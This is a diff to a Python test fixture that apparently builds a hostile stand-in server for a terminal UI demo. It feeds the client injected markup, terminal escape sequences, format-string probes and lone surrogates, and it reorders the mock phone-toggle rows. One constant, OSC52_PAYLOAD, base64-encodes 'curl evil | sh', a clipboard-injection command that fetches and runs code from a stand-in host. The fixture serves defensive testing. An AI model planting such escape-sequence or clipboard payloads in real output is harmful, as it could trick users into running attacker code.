@@ -17,9 +17,9 @@ What each string carries (:meth:`Hostility.text`), by kind:
   U+009B, DEL, a bidi override (U+202E) and isolate (U+2066), zero-width characters
   (U+200B, U+FEFF), the line separator U+2028, a lone CR, a newline;
 - ``format``: ``{reload}``, ``{reload.__class__.__mro__}``, ``{0:>99999999}``;
-- ``surrogate``: half of a surrogate pair, ``\\ud83d`` in the JSON: what a JavaScript
-  string cut mid-emoji serialises to. Valid JSON, but no UTF-8 encoder takes it, and a
-  client must send an ID holding one back (a toggle's ``userId``) as it came.
+- ``surrogate`` (only when asked): half of a surrogate pair, ``\\ud83d`` in the JSON:
+  what a JavaScript string cut mid-emoji serialises to. Valid JSON, but no UTF-8 encoder
+  takes it, and a client must send an ID holding one back (a toggle's ``userId``).
 
 Each string starts with a marker, ``PWN-<where>``, repeated after every terminal
 sequence, so a test that finds a sequence on the terminal knows which string it came
@@ -45,10 +45,11 @@ What the hostile Tether does, so a test can aim at each answer:
 
 - a save that sets ``sinchEstTrunkId`` is refused (400, structured, hostile code,
   message and details); any other save is applied and answered with a hostile message;
-- toggles (:data:`PHONE_PLAIN`): ``+14165550101`` off is applied (hostile message);
-  ``+14165550102`` is always rate limited (429, hostile ``Retry-After``); the number
-  ``phone-3`` always has a call in flight (409, hostile ``code``); ``phone-4`` is not on
-  the trunk (400 ``NUMBER_NOT_ON_TRUNK``, a code the app knows, hostile message).
+- toggles, in the numbers' order: ``+14165550101`` off is applied (hostile message);
+  the number ``phone-3`` always has a call in flight (409, hostile ``code``);
+  ``phone-4`` is not on the trunk (400 ``NUMBER_NOT_ON_TRUNK``, a code the app knows,
+  hostile message); ``+14165550102`` is always rate limited (429, hostile
+  ``Retry-After``), which stops a batch; ``+14165550105`` names an agent not listed.
 
 Stdlib only, like the rest of the demo.
 """
@@ -71,6 +72,7 @@ from tui.demo.sinch import SinchAuthStandIn, SinchEstStandIn, SinchState
 from tui.demo.state import DemoState, InvalidUpdate
 
 __all__ = [
+    "DEFAULT_KINDS",
     "KINDS",
     "OSC52_PAYLOAD",
     "PHONE_PLAIN",
@@ -84,7 +86,12 @@ __all__ = [
 ]
 
 KINDS = ("markup", "escapes", "format", "surrogate")
-"""The kinds of attack a hostile string carries; :class:`Hostility` picks some or all."""
+"""The kinds of attack a hostile string can carry; :class:`Hostility` picks some."""
+
+DEFAULT_KINDS = ("markup", "escapes", "format")
+"""What the hostile mode carries unless told: not ``surrogate``, with which the client's
+models refuse the whole answer (pydantic will not take the string), so no screen past
+the load would be reached."""
 
 OSC52_PAYLOAD = "Y3VybCBldmlsIHwgc2g="
 """base64 of ``curl evil | sh``: what OSC 52 would put into the clipboard."""
@@ -118,9 +125,10 @@ def _escapes(marker: str) -> str:
 
 @dataclass(frozen=True)
 class Hostility:
-    """Which attacks the hostile strings carry (all by default) and how they are written."""
+    """Which attacks the hostile strings carry (:data:`DEFAULT_KINDS` unless told) and how
+    they are written."""
 
-    kinds: frozenset[str] = frozenset(KINDS)
+    kinds: frozenset[str] = frozenset(DEFAULT_KINDS)
 
     def __post_init__(self) -> None:
         unknown = set(self.kinds) - set(KINDS)
@@ -129,7 +137,7 @@ class Hostility:
 
     @classmethod
     def of(cls, *kinds: str) -> Hostility:
-        return cls(frozenset(kinds or KINDS))
+        return cls(frozenset(kinds or DEFAULT_KINDS))
 
     def text(self, where: str) -> str:
         """The hostile string put where ``where`` names, marked ``PWN-<where>``."""
@@ -180,18 +188,14 @@ def _agents(h: Hostility) -> list[DemoAgent]:
 
 
 def _rows(h: Hostility) -> list[dict[str, Any]]:
+    # In the order a batch sends them: applied, in flight (409), not on the trunk (400),
+    # then rate limited (429), which stops a batch; then one whose agent is not listed.
     return [
         {
             "userId": h.text("user-1"),
             "phoneNumber": PHONE_PLAIN[0],
             "aiEnabled": True,
             "aiAgentId": "64f0a1b2c3d4e5f6a7b8cc01",
-        },
-        {
-            "userId": h.text("user-2"),
-            "phoneNumber": _RATE_LIMITED,
-            "aiEnabled": False,
-            "aiAgentId": h.text("agent-2-id"),
         },
         {
             "userId": h.text("user-3"),
@@ -204,6 +208,12 @@ def _rows(h: Hostility) -> list[dict[str, Any]]:
             "phoneNumber": h.text("phone-4"),
             "aiEnabled": False,
             "aiAgentId": None,
+        },
+        {
+            "userId": h.text("user-2"),
+            "phoneNumber": _RATE_LIMITED,
+            "aiEnabled": False,
+            "aiAgentId": h.text("agent-2-id"),
         },
         {  # an agent the list does not have: the app can only show its ID
             "userId": h.text("user-5"),
